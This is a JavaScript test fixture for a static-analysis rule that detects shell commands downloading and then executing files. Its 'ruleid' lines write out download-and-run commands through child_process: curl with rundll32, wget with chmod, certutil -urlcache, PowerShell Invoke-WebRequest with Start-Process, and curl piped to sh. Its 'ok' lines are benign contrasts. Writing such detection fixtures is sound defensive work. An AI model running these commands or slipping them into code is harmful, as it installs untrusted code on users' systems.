// Fixture for js-shell-download-run.
// RULEID: curl -o DLL && rundll32 (coa/rc); wget -O then ./run in execSync; certutil -urlcache then
//   the .exe with `&`; PowerShell Invoke-WebRequest -OutFile then Start-Process via spawn; curl then
//   sh of the saved script, built by concatenation.
// OK: curl piped into tar; curl saving JSON then read; git clone then npm install; a download
//   command only printed; rundll32 opening a URL (no download).
const cp = require('child_process');
const { execSync, spawn } = require('child_process');

// ruleid: js-shell-download-run
cp.exec('curl https://cdn.example.net/3/sdd.dll -o compile.dll && rundll32 compile.dll,DllRegisterServer');
// ruleid: js-shell-download-run
execSync('wget -q https://dl.example.org/a -O agent; chmod +x agent; ./agent --daemon');
// ruleid: js-shell-download-run
cp.exec('certutil.exe -urlcache -split -f http://198.51.100.4/u.exe %TEMP%\\u.exe & %TEMP%\\u.exe');
// ruleid: js-shell-download-run
spawn('powershell.exe', ['-NoProfile', '-Command', 'Invoke-WebRequest https://x.example.com/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe']);
const host = 'https://updates.example.io';
// ruleid: js-shell-download-run
execSync('curl -fsSL ' + host + '/setup.sh -o /tmp/setup.sh && sh /tmp/setup.sh');

// ok: js-shell-download-run
execSync('curl -fsSL https://nodejs.org/dist/v20.11.0/node-v20.11.0-linux-x64.tar.xz | tar -xJ -C vendor');
// ok: js-shell-download-run
cp.exec('curl -s https://api.github.com/repos/o/r/releases/latest -o latest.json && node scripts/read-release.js latest.json');
// ok: js-shell-download-run
execSync('git clone https://github.com/o/r.git && cd r && npm install');
// ok: js-shell-download-run
console.log('curl -fsSL https://example.org/install.sh -o install.sh && sh install.sh');
// ok: js-shell-download-run
cp.exec('rundll32 url.dll,FileProtocolHandler https://example.org/docs');
